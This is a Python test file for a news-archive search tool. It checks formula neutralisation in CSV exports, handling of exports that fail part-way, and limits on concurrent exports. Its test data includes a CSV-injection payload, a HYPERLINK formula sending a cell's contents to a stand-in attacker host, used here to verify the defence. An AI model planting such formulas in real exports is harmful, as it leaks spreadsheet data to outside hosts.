"""Exports that are safe to open, never look complete when cut off, and do not pile up.

Real indexes and the real server: a failure part-way is a damaged document in the index
(its stored fields overwritten in the segment file), not a stand-in for the engine.
"""
from __future__ import annotations

import csv
import http.client
import io
import json
import pickle
import re
import zlib
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from jsonschema import Draft202012Validator

from pressearchiv.cli import cli
from tests.conftest_web import CORPUS, RunningServer, corpus_index
from web import create_app
from web.export import spreadsheet_safe
from web.openapi import openapi_document

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "-2+3", "+49 30 1234", "@SUM(A1)"]


# CSV injection -----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def formula_index(tmp_path_factory):
    from indexer.build import build_index

    sources = tmp_path_factory.mktemp("formula-sources")
    with open(sources / "formeln.jsonl", "w", encoding="utf-8") as out:
        for n, title in enumerate(FORMULAS + ["Harmloser Titel"]):
            out.write(json.dumps({"id": f"f{n}", "title": title, "date": "2024-11-14",
                                  "section": "=Ressort", "body": f"Formeltest Nummer {n}."},
                                 ensure_ascii=False) + "\n")
    target = tmp_path_factory.mktemp("formula-index")
    assert build_index([str(sources)], target).articles == len(FORMULAS) + 1
    return target


def _check_neutralised(rows: list[dict]) -> None:
    titles = {row["id"]: row["title"] for row in rows}
    assert titles == {**{f"f{n}": "'" + t for n, t in enumerate(FORMULAS)},
                      f"f{len(FORMULAS)}": "Harmloser Titel"}
    assert {row["section"] for row in rows} == {"'=Ressort"}


def test_api_csv_export_neutralises_formulas(formula_index):
    client = create_app({"TESTING": True, "INDEX_DIR": str(formula_index)}).test_client()
    text = client.get("/api/search?format=csv").get_data(as_text=True)
    _check_neutralised(list(csv.DictReader(io.StringIO(text))))
    # JSON Lines is data, not a sheet: the titles stay as they are
    lines = client.get("/api/search?format=jsonl").get_data(as_text=True)
    assert {json.loads(line)["title"] for line in lines.splitlines()} >= set(FORMULAS)


def test_cli_csv_export_neutralises_formulas(runner, formula_index):
    result = runner.invoke(cli, ["search", "--index", str(formula_index),
                                 "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    _check_neutralised(rows)
    assert all(row["score"] and not row["score"].startswith("'") for row in rows)


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"), (" =1", " =1"),
])
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected


# an export that fails part-way -------------------------------------------------------------

def corrupt_stored_fields(index_dir: Path, article_id: str) -> None:
    """Overwrite the zlib header of one article's stored fields in its segment file, as a
    damaged disk block would: reading that article fails, everything else is intact.
    (whoosh keeps each document's stored fields as a deflated pickle; the scan finds it by
    content, not by whoosh's file layout.)"""
    for segment in (index_dir / "current").glob("*.seg"):
        data = segment.read_bytes()
        for match in re.finditer(b"\x78[\x01\x5e\x9c\xda]", data):
            try:
                fields = pickle.loads(zlib.decompressobj().decompress(data[match.start():]))
            except Exception:  # noqa: BLE001 - not the start of a stored document
                continue
            if isinstance(fields, dict) and fields.get("id") == article_id:
                with open(segment, "r+b") as fh:
                    fh.seek(match.start())
                    fh.write(b"\0\0")
                return
    raise AssertionError(f"stored fields of {article_id} not found")


@pytest.fixture(scope="module")
def damaged_index(tmp_path_factory):
    """The sample corpus, one article of which, 61st from the oldest, cannot be read."""
    from indexer.build import build_index
    from search import open_engine
    from search.models import SearchRequest

    target = tmp_path_factory.mktemp("damaged-index")
    build_index([str(CORPUS)], target, jobs=1)
    order = [r["id"] for r in open_engine(target).export(SearchRequest(sort="oldest"))]
    assert len(order) > 70
    corrupt_stored_fields(target, order[60])
    return {"path": target, "total": len(order)}


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_http_export_failing_part_way_is_cut_off_and_logged(damaged_index, fmt):
    server = RunningServer(damaged_index["path"])
    try:
        host = urlsplit(server.url)
        connection = http.client.HTTPConnection(host.hostname, host.port, timeout=20)
        connection.request("GET", f"/api/search?sort=oldest&format={fmt}")
        response = connection.getresponse()
        assert response.status == 200
        assert response.getheader("Transfer-Encoding") == "chunked"
        with pytest.raises(http.client.IncompleteRead) as cut:
            response.read()
        received = cut.value.partial.decode()
        if fmt == "csv":
            records = list(csv.DictReader(io.StringIO(received)))
        else:
            records = [json.loads(line) for line in received.splitlines()]
        assert 0 < len(records) < damaged_index["total"]  # some rows, not all
        connection.close()
        # only that connection was dropped: the server goes on serving
        connection = http.client.HTTPConnection(host.hostname, host.port, timeout=20)
        connection.request("GET", "/api/health")
        assert connection.getresponse().status == 200
        connection.close()
    finally:
        log = server.stop()
    assert "export failed while streaming /api/search?sort=oldest&format=" + fmt in log


def test_cli_export_failing_part_way_exits_non_zero(runner, damaged_index):
    result = runner.invoke(cli, ["search", "--index", str(damaged_index["path"]),
                                 "--sort", "oldest", "--format", "csv"])
    assert result.exit_code == 1
    assert "export failed part-way" in result.stderr and "incomplete" in result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert 0 < len(rows) < damaged_index["total"]


# at most a few exports at once -------------------------------------------------------------

@pytest.fixture(scope="module")
def web_index(tmp_path_factory):
    return corpus_index(tmp_path_factory)


EXPORT = "/api/search?q=Ukraine&format=csv"


@pytest.mark.parametrize("limit", [1, 2])
def test_more_exports_than_allowed_get_429_until_one_ends(web_index, limit):
    client = create_app({"TESTING": True, "INDEX_DIR": str(web_index),
                         "EXPORT_CONCURRENCY": limit}).test_client()
    # streaming, not yet read (the test client holds each stream's request context: they
    # must end in reverse order)
    running = [client.get(EXPORT) for _ in range(limit)]
    assert all(r.status_code == 200 for r in running)
    refused = client.get(EXPORT.replace("csv", "jsonl"))
    assert refused.status_code == 429
    assert refused.headers["Retry-After"] == "10"
    assert refused.headers["Cache-Control"] == "no-store"
    error = refused.get_json()["error"]
    assert error["status"] == 429 and error["code"] == "too_many_exports"
    assert client.get("/api/search?q=Ukraine").status_code == 200  # searching goes on
    running.pop().get_data()  # read to the end: its slot is free again
    again = client.get(EXPORT)
    assert again.status_code == 200
    again.close()  # closed without being read: freed as well
    assert client.get(EXPORT).get_data(as_text=True).startswith("id,title")
    for response in reversed(running):
        response.close()


def test_a_failing_export_frees_its_slot(tmp_path):
    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "none"),
                         "EXPORT_CONCURRENCY": 1}).test_client()
    for _ in range(3):  # no index: 503 each time, never 429
        assert client.get(EXPORT).status_code == 503


def test_429_is_documented_with_retry_after(web_index):
    document = openapi_document()
    documented = document["paths"]["/api/search"]["get"]["responses"]["429"]
    assert documented["headers"]["Retry-After"]["schema"]["type"] == "integer"
    client = create_app({"TESTING": True, "INDEX_DIR": str(web_index),
                         "EXPORT_CONCURRENCY": 1, "EXPORT_RETRY_AFTER": 3}).test_client()
    running = client.get(EXPORT)
    refused = client.get(EXPORT)
    assert refused.status_code == 429 and refused.headers["Retry-After"] == "3"
    error_schema = {**document["components"]["schemas"]["Error"],
                    "$defs": document["components"]["schemas"]}
    Draft202012Validator(error_schema).validate(refused.get_json())
    running.close()


def test_cli_csv_export_without_matches_has_its_header(runner, formula_index):
    result = runner.invoke(cli, ["search", "xyzzyqwertz", "--index", str(formula_index),
                                 "--format", "csv"])
    assert result.exit_code == 0
    assert result.stdout.splitlines() == ["id,title,date,section,url,source,lang,score,"
                                          "duplicates,persons,orgs,places,body"]
